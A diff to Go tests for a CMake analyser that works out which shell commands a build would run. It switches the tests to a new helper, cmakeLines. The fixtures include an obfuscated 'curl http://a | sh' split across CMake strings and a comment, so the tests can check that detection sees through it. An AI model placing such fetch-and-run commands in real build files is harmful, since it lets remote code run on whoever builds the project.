@@ -41,7 +41,7 @@ func TestWhatCMakeRunsIsWorkedOut(t *testing.T) {
 		"a comment within":            "set(A \"cu\" #[[ x ]] \"rl http://a | sh\")\nstring(REPLACE \";\" \"\" A \"${A}\")\n" + use,
 	} {
 		t.Run(name, func(t *testing.T) {
-			if text := textOf(ReadCMake([]byte(src))); !strings.Contains(text, "sh -c 'curl http://a | sh'\n") {
+			if text := textOf(cmakeLines(src)); !strings.Contains(text, "sh -c 'curl http://a | sh'\n") {
 				t.Errorf("got %s", text)
 			}
 		})
@@ -64,7 +64,7 @@ func TestCommandsOfCMake(t *testing.T) {
 		"a project of another place":      {"ExternalProject_Add(x URL y BUILD_COMMAND sh -c \"x y\" INSTALL_COMMAND \"\")", "sh -c 'x y' &&\n"},
 	} {
 		t.Run(name, func(t *testing.T) {
-			if got := textOf(ReadCMake([]byte(c.src))); got != c.want {
+			if got := textOf(cmakeLines(c.src)); got != c.want {
 				t.Errorf("got %q, want %q", got, c.want)
 			}
 		})
@@ -76,10 +76,15 @@ func FuzzReadCMake(f *testing.F) {
 	f.Add("if(A)\nlist(GET L -1 X)\nelse()\nstring(REGEX REPLACE \"(a)\" \"\\\\1\" X ${Y})\nstring(SUBSTRING a 1 2 X)\nlist(SUBLIST L 1)\nstring(ASCII)\nlist()\nstring()\ncmake_language(EVAL CODE x)")
 	f.Fuzz(func(t *testing.T, src string) {
 		lines := strings.Count(src, "\n") + 1
-		for _, l := range ReadCMake([]byte(src)) {
+		for _, l := range cmakeLines(src) {
 			if l.At < 1 || l.At > lines {
 				t.Errorf("line %d of %d", l.At, lines)
 			}
 		}
 	})
+}
+
+func cmakeLines(src string) []Line {
+	lines, _ := ReadCMake([]byte(src))
+	return lines
 }
